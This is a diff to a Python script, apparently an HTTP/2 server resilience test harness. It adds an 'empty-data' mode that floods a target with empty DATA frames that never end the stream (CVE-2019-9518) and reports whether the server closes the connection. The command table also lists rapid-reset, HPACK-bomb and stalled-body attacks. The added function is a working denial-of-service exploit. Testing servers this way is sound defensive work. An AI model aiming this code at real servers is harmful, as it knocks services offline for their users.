@@ -319,6 +319,30 @@ def rapid_reset(host, port, request_json, count):
     print(json.dumps({"sent": sent, "closed": closed or closed_now, "goaway": goaway_of(frames)}))
 
 
+def empty_data(host, port, request_json, count):
+    """One request whose body never comes: empty DATA frames without END_STREAM (CVE-2019-9518)."""
+    headers, _ = request_parts(request_json)
+    sock = socket.create_connection((host, int(port)), timeout=10)
+    sock.sendall(PREFACE + SETTINGS)
+    import hpack
+
+    block = hpack.Encoder().encode(headers)
+    sock.sendall(frame(1, 0x4, 1, block))
+    sent = 0
+    closed = False
+    empty = frame(0, 0, 1)
+    for _ in range(int(count) // 100):
+        try:
+            sock.sendall(empty * 100)
+            sent += 100
+        except OSError:
+            closed = True
+            break
+    closed_now, frames = watch_until_closed(sock, 5)
+    sock.close()
+    print(json.dumps({"sent": sent, "closed": closed or closed_now, "goaway": goaway_of(frames)}))
+
+
 def hpack_bomb(host, port, frames_to_send):
     sock = socket.create_connection((host, int(port)), timeout=10)
     sock.sendall(PREFACE + SETTINGS)
@@ -530,7 +554,7 @@ def main(argv):
     command, args = argv[1], argv[2:]
     table = {
         "tls-churn": tls_churn, "idle-crowd": idle_crowd, "idle-goaway": idle_goaway,
-        "stalled-body": stalled_body, "rapid-reset": rapid_reset, "hpack-bomb": hpack_bomb,
+        "stalled-body": stalled_body, "rapid-reset": rapid_reset, "hpack-bomb": hpack_bomb, "empty-data": empty_data,
         "unfinished": unfinished, "token-updates": token_updates, "broken-requests": broken_requests,
         "flood-and-polite": flood_and_polite, "header-table": header_table,
     }
